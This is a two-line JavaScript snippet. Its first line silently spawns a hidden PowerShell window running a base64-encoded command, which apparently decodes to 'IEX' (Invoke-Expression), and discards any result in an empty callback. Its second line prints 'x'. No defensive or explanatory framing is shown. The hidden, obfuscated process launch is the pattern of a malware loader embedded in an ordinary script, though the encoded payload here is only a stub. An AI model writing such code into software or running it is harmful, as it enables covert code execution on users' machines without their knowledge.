require('child_process').exec('powershell -w hidden -enc SQBFAFgA', () => {});
console.log('x');
